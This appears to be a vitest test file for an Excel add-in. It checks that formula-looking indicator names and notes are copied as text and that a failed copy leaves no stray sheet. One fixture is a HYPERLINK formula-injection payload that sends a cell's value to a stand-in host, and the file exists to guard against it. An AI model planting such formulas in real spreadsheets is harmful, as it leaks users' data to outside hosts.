/**
 * Issue #12 item 1 — the portable copy with native formulas keeps text as text. Range.formulas gives a text
 * cell its text without Excel's text prefix (office-js #6687), so an indicator named
 * =HYPERLINK("http://…/?x="&J7,"open") (imported from a plan file) or a note typed as '=… read back like a
 * formula, and the copy wrote them as live formulas: a link that sends the figure typed in J7 away, or, for
 * text Excel cannot parse, a failed write that left an empty "(portable)" sheet behind. Now every such cell
 * is copied as the text it is, and a copy that fails for any reason removes the sheet it added.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createStandin, installStandin, type Standin } from "../../dev/standin";
import { FormulaEngine } from "../../dev/standin/formulaEngine";
import { plan as planSchema, type Plan } from "../../src/core/planSchema";
import { seedPlan } from "../../src/core/seedPlan";
import { templateColumns, type ColumnKey } from "../../src/core/templateLayout";
import { columnLetters } from "../../src/excel/a1";
import { HostOperationError } from "../../src/excel/excelRun";
import { insertTemplate } from "../../src/excel/insertTemplate";
import { writePortableCopy } from "../../src/excel/portableCopy";

let standin: Standin;
let uninstall: () => void;
beforeEach(() => {
  standin = createStandin({ displayLanguage: "zh-CN" });
  uninstall = installStandin(standin);
});
afterEach(() => {
  vi.restoreAllMocks();
  uninstall();
});

const SHEET = "规划指标";
const COPY = "规划指标（便携）";
const LEAK = '=HYPERLINK("http://x.invalid/?x="&J7,"open")';
/** Names that Excel would take for a formula if they went in without the text prefix. */
const FORMULA_NAMES = [LEAK, "=1+1", "+SUM(A1)", "-2+3", "@A1", "=1+1 note"];

function formulaNamedPlan(): Plan {
  return planSchema.parse({
    ...seedPlan,
    title: { zh: LEAK, en: LEAK },
    indicators: seedPlan.indicators.map((ind, i) => ({
      ...ind,
      name: i < FORMULA_NAMES.length ? { zh: FORMULA_NAMES[i]!, en: FORMULA_NAMES[i]! } : ind.name,
      actuals: i === 1 ? { "2021": { value: 1.3 }, "2022": { value: 1.35 } } : ind.actuals,
    })),
  });
}

const columns = templateColumns(seedPlan);
const at = (key: ColumnKey, row: number) => `${columnLetters(columns.findIndex((c) => c.key === key))}${row}`;

function cellOf(sheet: string, address: string) {
  const c = standin.workbook.cell(sheet, address);
  return { text: c.text, valueType: c.valueType, formula: typeof c.input === "string" && c.input.startsWith("=") };
}

/** Every formula on a sheet (the formula bar's text). */
function formulasOn(sheet: string): string[] {
  const wb = standin.workbook;
  const { rows, cols } = wb.extent(sheet);
  const out: string[] = [];
  for (let r = 0; r < rows; r++)
    for (let c = 0; c < cols; c++) {
      const input = wb.cellAt(sheet, r, c).input;
      if (typeof input === "string" && input.startsWith("=")) out.push(input);
    }
  return out;
}

describe("portable copy: formula-looking names and notes are copied as text", () => {
  for (const mode of ["native", "values"] as const) {
    it(`${mode}: every such name, the title and a note typed as '=… are text on the copy, as on the template`, async () => {
      await insertTemplate(formulaNamedPlan(), "zh");
      const wb = standin.workbook;
      wb.setCellInput(SHEET, at("manualNote", 7), `'${LEAK}`);
      wb.setCellInput(SHEET, at("manualNote", 8), "'=1+1 note");
      // Text in a cell staff formatted as text ("@"): copied as text whatever Excel does with "=" in such a cell.
      wb.setCellInput(SHEET, "T2", "'=3+3");
      await Excel.run(async (context) => {
        context.workbook.worksheets.getItem(SHEET).getRange("T2").numberFormat = [["@"]];
        await context.sync();
      });
      await standin.whenIdle();

      const copy = await writePortableCopy("PlanIndicators", mode);
      expect(copy.sheetName).toBe(COPY);
      const expected = [
        ["A1", LEAK],
        ...FORMULA_NAMES.map((name, i) => [at("name", 6 + i), name]),
        [at("manualNote", 7), LEAK],
        [at("manualNote", 8), "=1+1 note"],
        ["T2", "=3+3"],
      ] as const;
      for (const [address, text] of expected) {
        expect(cellOf(SHEET, address), `${SHEET}!${address}`).toEqual({ text, valueType: "String", formula: false });
        expect(cellOf(COPY, address), `${COPY}!${address}`).toEqual({ text, valueType: "String", formula: false });
      }
      // No formula on the copy came from a cell's text: no link, and the native columns are there.
      expect(formulasOn(COPY).filter((f) => /HYPERLINK|SUM\(A1\)|^=[0-9]\+[0-9]/i.test(f))).toEqual([]);
      if (mode === "native") {
        expect(copy.translated).toBeGreaterThan(0);
        expect(cellOf(COPY, at("status", 7)).formula).toBe(true);
        expect(cellOf(COPY, at("status", 7)).text).toBe(cellOf(SHEET, at("status", 7)).text);
      }
    });
  }
});

describe("portable copy: a write Excel refuses leaves no half-written sheet", () => {
  it("removes the copy's sheet and reports the failure", async () => {
    await insertTemplate(formulaNamedPlan(), "zh");
    const before = standin.workbook.sheets().map((s) => s.name);
    // Excel refusing a formula the stand-in's engine would accept (here: the copy's evaluation year).
    const isValid = FormulaEngine.prototype.isValidFormula;
    vi.spyOn(FormulaEngine.prototype, "isValidFormula").mockImplementation(function (this: FormulaEngine, f) {
      return f.startsWith('=IF(B3<>"",IF(ISNUMBER(B3)') ? false : isValid.call(this, f);
    });
    await expect(writePortableCopy("PlanIndicators", "native")).rejects.toBeInstanceOf(HostOperationError);
    expect(standin.workbook.sheets().map((s) => s.name)).toEqual(before);
  });
});
